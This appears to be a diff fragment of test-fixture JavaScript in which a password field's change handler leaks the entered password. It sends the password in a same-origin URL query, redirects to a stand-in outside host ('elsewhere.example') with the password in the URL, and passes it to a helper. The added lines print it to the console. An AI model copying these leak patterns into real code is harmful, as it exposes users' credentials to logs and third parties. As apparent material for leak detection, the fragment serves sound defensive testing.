@@ -46,6 +46,8 @@ password.onchange = async () => {
   const address = location.origin + '/missing?password=' + encodeURIComponent(password.value);
   await fetch(address);
   console.error('There is nothing at ' + address + '.');
+  console.error('Not signed in:', { name: 'lena', password: password.value });
+  console.warn(encodeURIComponent(password.value), new Error('Refused ' + password.value));
   location.href = 'https://elsewhere.example/in?password=' + password.value;
   await tell('password', password.value);
 };
